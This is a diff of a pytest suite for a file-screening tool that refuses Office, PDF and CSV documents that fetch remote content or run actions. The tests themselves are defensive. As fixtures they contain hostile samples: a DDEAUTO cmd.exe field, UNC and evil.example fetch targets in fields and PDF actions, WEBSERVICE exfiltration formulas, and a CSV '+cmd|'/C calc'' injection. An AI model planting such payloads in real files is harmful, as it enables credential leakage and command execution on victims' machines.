@@ -1,7 +1,8 @@
 """What is in a document decides whether it is taken: not the names of its parts, their encoding or their namespaces."""
 
 import struct
-from collections.abc import Iterable
+from collections.abc import Callable, Iterable
+from typing import Any
 
 import pikepdf
 import pytest
@@ -15,10 +16,12 @@ from tests.support.evidence import (
     DOC,
     HARMLESS,
     HOSTILE,
+    MACRO_WORD,
     OFFICE,
     PACKAGE,
     RELATIONS,
     WORD,
+    annotate,
     biff,
     changed_pdf,
     compound,
@@ -35,6 +38,7 @@ from tests.support.evidence import (
 WORDS = f"{OFFICE}.wordprocessingml"
 STRICT = "http://purl.oclc.org/ooxml/wordprocessingml/main"
 DDE = field(" DDEAUTO c:\\\\windows\\\\cmd.exe ")
+LEADS = "liên kết tới chương trình hoặc máy khác"
 AWAY = "https://example.org/a"
 
 
@@ -48,6 +52,15 @@ def answer(content: bytes, name: str = "a.docx") -> str:
 
 def taken(content: bytes, name: str = "a.docx") -> bool:
     return "/" in answer(content, name).partition(":")[0]
+
+
+def test_each_thing_is_named_once() -> None:
+    """A document with macros declares that it has some, and holds them."""
+    macros = docx(main=MACRO_WORD, types=override("word/a.bin", "application/vnd.ms-office.vbaProject"))
+    assert answer(macros).startswith("evidence-active: Trong tệp có macro VBA. ")
+    for content, _, _ in HOSTILE.values():
+        said = answer(content).partition("Trong tệp có ")[2].partition(". ")[0].split(", ")
+        assert not [(one, other) for one in said for other in said if one != other and one in other], said
 
 
 def document(body: str, word: str = WORD) -> str:
@@ -266,6 +279,8 @@ def test_a_relationship_is_one_whatever_its_namespace_and_its_part(namespace: st
         ("externalLinkPath", "file:///C:\\So%20lieu\\2024.xlsx"),
         ("xlPathMissing", "vnTools.xla"),
         ("image", "NULL"),
+        ("image", "cid:image001.png@01D0A1B2.C3D4"),
+        ("image", "file:///C:\\Users\\An\\Temp\\msohtmlclip1\\01\\clip_image001.png"),
     ],
 )
 def test_what_office_programs_write_of_the_own_drive_is_taken(kind: str, target: str) -> None:
@@ -289,6 +304,7 @@ LINKS = [
     "about:blank",
     "javascript:void(0)",
     "javascript:;",
+    "https:www.a.vn",
 ]
 NO_LINKS = [
     *(target for target in SENT_AWAY if "http" not in target[:6].lower() and "\u00a0" not in target),
@@ -392,6 +408,8 @@ BUILDING = {
     "by QUOTE": f"<w:p>{BEGIN}{inner('QUOTE 68 68 69')}{run(' cmd')}{END}</w:p>",
     "half by QUOTE": f"<w:p>{BEGIN}{run('L')}{inner('QUOTE 73 78 75')}{run(' cmd')}{END}</w:p>",
     "by a property": f"<w:p>{BEGIN}{run(' ')}{inner('DOCPROPERTY a')}{END}</w:p>",
+    "by a simple field": f'<w:p>{BEGIN}<w:fldSimple w:instr="QUOTE 68"/>{run("PAGE")}{END}</w:p>',
+    "by a control with data": f"<w:p>{BEGIN}<w:sdt><w:sdtContent>{run('PAGE')}</w:sdtContent></w:sdt>{END}</w:p>",
     "in a branch": f"<w:p>{BEGIN}{alternatives(run('PAGE '), '')}{run('LINK a')}{END}</w:p>",
     "in the other branch": f"<w:p>{BEGIN}{alternatives(run('PA'), run('LI'))}{run('NK a')}{END}</w:p>",
     "with a mark in a branch": f"<w:p>{BEGIN}{alternatives(SEPARATE, '')}{run('LINK a', 't')}{END}</w:p>",
@@ -411,7 +429,17 @@ def test_a_field_whose_instruction_is_put_together_elsewhere_is_refused(body: st
 @pytest.mark.parametrize(
     "name", ["LINK", "INCLUDE", "INCLUDETEXT", "INCLUDEPICTURE", "IncludePicture", "IMPORT", "DATABASE", "RD"]
 )
-@pytest.mark.parametrize("target", ['"\\\\\\\\evil\\\\a"', '"https://example.org/a"', "a"])
+@pytest.mark.parametrize(
+    "target",
+    [
+        '"\\\\\\\\evil\\\\a"',
+        '"https://example.org/a"',
+        "a",
+        '\\t "\\\\\\\\evil" "C:\\\\a.png"',
+        '"C:\\\\a.png" "\\\\\\\\evil"',
+        '"cid:/\\\\evil"',
+    ],
+)
 def test_a_field_that_fetches_is_refused(name: str, target: str) -> None:
     said = answer(docx(field(f" {name} ", target)))
     assert "tải nội dung từ nơi khác" in said and name.upper() in said
@@ -434,6 +462,8 @@ def test_a_sign_between_pieces_hides_no_name(sign: str) -> None:
         f"<w:p>{alternatives(field(' PAGE '), field(' PAGE '))}</w:p>",
         f"<w:p><w:del>{BEGIN}</w:del><w:del>{run('PAGE', 'delInstrText')}{END}</w:del></w:p>",
         f"<w:p><w:ins>{BEGIN}{run('DATE')}</w:ins>{run(' @ &quot;dd/MM/yyyy&quot;')}{END}</w:p>",
+        field("INCLUDEPICTURE &quot;C:\\\\Temp\\\\clip_image001.png&quot; \\* MERGEFORMATINET"),
+        field("INCLUDEPICTURE &quot;cid:image001.png@01D0&quot; \\d \\* MERGEFORMAT"),
         field("ADDIN ZOTERO_ITEM CSL_CITATION {&quot;link&quot;: &quot;x&quot;}"),
         field("MACROBUTTON NoMacro Bấm để nhập"),
         "<w:p><w:r><w:t>DDEAUTO c:\\\\cmd.exe là gì</w:t></w:r></w:p>",
@@ -488,9 +518,17 @@ def test_a_formula_that_fetches_is_refused(formula: str) -> None:
     assert "lấy dữ liệu" in answer(sheet(formula))
 
 
+@pytest.mark.parametrize("target", ["\\\\evil\\a", "file://evil/a", "ms-word:a", "[\\\\evil\\a.xlsx]B!A1", "file:"])
+def test_a_formula_that_leads_to_another_machine_is_refused(target: str) -> None:
+    assert "liên kết tới" in answer(sheet(f'HYPERLINK("{target}","xem")'))
+    assert "liên kết tới" in answer(f'a;"=hyperlink(""{target}"")"'.encode(), "a.csv")
+
+
 @pytest.mark.parametrize(
     "formula",
     [
+        'HYPERLINK("https://a.vn/?x=1","a")&amp;HYPERLINK("mailto:"&amp;A1)&amp;HYPERLINK(A1)',
+        'HYPERLINK("[Phụ lục.xlsx]\'B: 1\'!A1","a")&amp;HYPERLINK("Hồ sơ\\1.pdf")',
         "SUM(A1:B2)",
         "IF(A1&lt;&gt;&quot;&quot;,&quot;a|b!c&quot;,'a|b'!A1)",
         "'[Khác.xlsx]Sheet 1'!$A$1",
@@ -786,3 +824,86 @@ def test_what_a_page_does_by_itself(cause: str, make: type, is_taken: bool) -> N
         document.pages[0].obj.AA = Dictionary({f"/{cause}": document.make_indirect(make())})
 
     assert taken(changed_pdf(change), "a.pdf") is is_taken
+
+
+def clicked(**action: Any) -> Callable[[pikepdf.Pdf], None]:
+    return lambda document: annotate(document, A=Dictionary(**action))
+
+
+def _kept_elsewhere(document: pikepdf.Pdf) -> None:
+    document.Root.X = document.make_stream(b"", F=Dictionary(FS=Name.URL, F=String("http://evil.example/x")))
+
+
+def _shown_from_elsewhere(document: pikepdf.Pdf) -> None:
+    of = Dictionary(F=String(r"\\evil\s\x.pdf"), Page=0)
+    document.Root.X = document.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, Ref=of)
+
+
+def _step_by_step(document: pikepdf.Pdf) -> None:
+    document.pages[0].PresSteps = Dictionary(NA=Dictionary(S=Name.URI, URI=String("https://evil.example")))
+
+
+def _base(document: pikepdf.Pdf) -> None:
+    document.Root.URI = Dictionary(Base=String("file://evil/s/"))
+
+
+PDF_ELSEWHERE: dict[str, tuple[Callable[[pikepdf.Pdf], None], str]] = {
+    "external data": (_kept_elsewhere, "dữ liệu lấy từ nơi khác"),
+    "reference XObject": (_shown_from_elsewhere, "dữ liệu lấy từ nơi khác"),
+    "steps of a presentation": (_step_by_step, "hành động tự chạy"),
+    "movie": (lambda document: annotate(document, Subtype=Name.Movie), "đa phương tiện"),
+    "sound": (lambda document: annotate(document, Subtype=Name.Sound), "đa phương tiện"),
+    "screen": (lambda document: annotate(document, Subtype=Name.Screen), "đa phương tiện"),
+    "base": (_base, LEADS),
+    "other machine": (clicked(S=Name.GoToR, F=String(r"\\evil\s\a.pdf")), LEADS),
+    "its description": (clicked(S=Name.GoToR, F=Dictionary(Type=Name.Filespec, UF=String(r"\\evil\s\a.pdf"))), LEADS),
+    "form": (clicked(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("smb://evil/s"))), LEADS),
+    "program": (clicked(S=Name.URI, URI=String("file://evil/s/x.exe")), LEADS),
+    "protocol": (clicked(S=Name.URI, URI=String("ms-word:ofe|u|https://evil.example/a.docx")), LEADS),
+}
+
+
+@pytest.mark.parametrize(("change", "words"), PDF_ELSEWHERE.values(), ids=list(PDF_ELSEWHERE))
+def test_a_pdf_that_leads_to_other_machines_is_refused(change: Callable[[pikepdf.Pdf], None], words: str) -> None:
+    assert words in answer(changed_pdf(change), "a.pdf")
+
+
+@pytest.mark.parametrize(
+    "target",
+    [
+        "https://tiencanh.gov.vn/a?b=c",
+        "www.tiencanh.gov.vn/a?b=c:d",
+        "mailto:vp@tiencanh.gov.vn",
+        "phu-luc.pdf",
+        "#trang=2",
+    ],
+)
+def test_links_of_a_pdf_that_people_make_are_taken(target: str) -> None:
+    assert taken(changed_pdf(clicked(S=Name.URI, URI=String(target))), "a.pdf")
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        '+WEBSERVICE("http://evil.example/"&A1)',
+        '-2+WEBSERVICE("http://evil.example/")',
+        '@WEBSERVICE("http://evil.example/")',
+        '=_xlfn.WEBSERVICE("http://evil.example/")',
+        '=WEBSERVICE ("http://evil.example/")',
+        '=IMAGE("https://evil.example/a.png")',
+        r"='\\evil\s\[x.xlsx]S'!A1",
+        "='https://evil.example/[x.xlsx]S'!A1",
+        r'"=HYPERLINK(""\\evil\s\x"",""Xem"")"',
+        "+cmd|'/C calc'!A0",
+    ],
+)
+def test_a_cell_of_a_table_of_text_that_fetches_is_refused(cell: str) -> None:
+    assert "evidence-active" in answer(f"a;b\r\nx;{cell}\r\n".encode(), "a.csv")
+
+
+@pytest.mark.parametrize(
+    "cell",
+    ["=A1+B1", "-5", "+84 912 345 678", "- IMAGE(1).JPG", "=[1] tổng!", "a@xa.vn", r"='C:\so\[so.xlsx]S'!A1"],
+)
+def test_ordinary_cells_of_a_table_of_text_are_taken(cell: str) -> None:
+    assert taken(f"a;b\r\nx;{cell}\r\n".encode(), "a.csv")
